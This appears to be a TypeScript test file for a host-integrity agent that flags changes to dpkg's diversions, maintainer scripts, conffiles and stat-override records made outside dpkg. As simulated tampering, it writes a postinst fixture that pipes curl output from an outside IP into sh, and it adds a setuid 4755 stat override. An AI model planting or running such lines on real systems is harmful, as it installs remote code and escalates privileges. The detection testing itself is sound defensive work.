// dpkg's records beyond md5sums, followed by a real agent: a diversion added with no dpkg running, a
// maintainer script rewritten, a package's conffiles list changed: each a "database-changed" finding
// naming the file, found in real time by the watcher and by the scheduled check alike.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { agentFixture, EVERY_2S, isAlert, isKind, isRunFinished, startAgent, YEARLY, type AlertLine, type LogLine } from '../helpers/agent.js';

const WATCH_ONLY = { scope: { packages: ['app'] }, schedule: { scoped: YEARLY, full: YEARLY }, watch: { enabled: true } };
const SCHEDULE_ONLY = { scope: { packages: ['app'] }, schedule: { scoped: EVERY_2S, full: YEARLY }, watch: { enabled: false } };
const POSTINST = '#!/bin/sh\nset -e\n';
const EVIL_POSTINST = '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n';

/** A findings.opened alert with a database-changed finding on `file` (a path on the checked system). */
function dbChanged(file: string): (l: LogLine) => l is AlertLine {
  return (l): l is AlertLine => isAlert('findings.opened')(l) && l.event.findings.some((f) => f.path === file && f.status === 'database-changed');
}

function detailOn(alert: AlertLine, file: string): string {
  return alert.event.findings.find((f) => f.path === file)?.detail ?? '';
}

test('agent: a diversion added, a postinst rewritten, a conffiles list changed outside dpkg: database-changed in real time', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  const postinst = path.join(fx.admindir, 'info', 'app.postinst');
  writeFileSync(postinst, POSTINST);
  writeFileSync(fx.infoFile('app', 'conffiles'), '');
  const agent = await startAgent({ t, fx, stateDir, config: WATCH_ONLY });
  await agent.waitFor('watch.started', isKind('watch.started'));
  await agent.waitFor('the start-up scoped run', isRunFinished('scoped', 'clean'));

  let from = agent.mark();
  appendFileSync(path.join(fx.admindir, 'diversions'), '/usr/bin/x\n/usr/bin/x.real\n:\n');
  const diverted = await agent.waitFor<AlertLine>('the diversion', dbChanged('/var/lib/dpkg/diversions'), { from });
  assert.match(detailOn(diverted.line, '/var/lib/dpkg/diversions'), /^diversions changed while no dpkg was running: diversion added: \/usr\/bin\/x -> \/usr\/bin\/x\.real by local$/);
  assert.equal(diverted.line.event.findings.find((f) => f.path === '/var/lib/dpkg/diversions')?.package, 'dpkg');

  from = agent.mark();
  writeFileSync(postinst, EVIL_POSTINST);
  const script = await agent.waitFor<AlertLine>('the postinst', dbChanged('/var/lib/dpkg/info/app.postinst'), { from });
  assert.match(detailOn(script.line, '/var/lib/dpkg/info/app.postinst'), /^app\.postinst changed while no dpkg was running: its content changed/);

  from = agent.mark();
  writeFileSync(fx.infoFile('app', 'conffiles'), '/etc/app/evil.conf\n');
  const conffiles = await agent.waitFor<AlertLine>('the conffiles list', dbChanged('/var/lib/dpkg/info/app.conffiles'), { from });
  assert.match(detailOn(conffiles.line, '/var/lib/dpkg/info/app.conffiles'), /^app\.conffiles changed while no dpkg was running: its content changed/);
  await agent.stop();
});

test('agent: a stat override and a maintainer script that appears are found by the scheduled check, with the watch off', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  const agent = await startAgent({ t, fx, stateDir, config: SCHEDULE_ONLY });
  await agent.waitFor('the start-up scoped run', isRunFinished('scoped', 'clean'));
  const from = agent.mark();
  writeFileSync(path.join(fx.admindir, 'statoverride'), 'root root 4755 /usr/lib/app/main.py\n');
  writeFileSync(path.join(fx.admindir, 'info', 'app.prerm'), EVIL_POSTINST);
  const over = await agent.waitFor<AlertLine>('the stat override', dbChanged('/var/lib/dpkg/statoverride'), { from });
  assert.match(detailOn(over.line, '/var/lib/dpkg/statoverride'), /stat override added: \/usr\/lib\/app\/main\.py root:root 4755$/);
  const prerm = await agent.waitFor<AlertLine>('the prerm', dbChanged('/var/lib/dpkg/info/app.prerm'), { from });
  assert.match(detailOn(prerm.line, '/var/lib/dpkg/info/app.prerm'), /app\.prerm changed while no dpkg was running: it appeared/);
  await agent.stop();
});
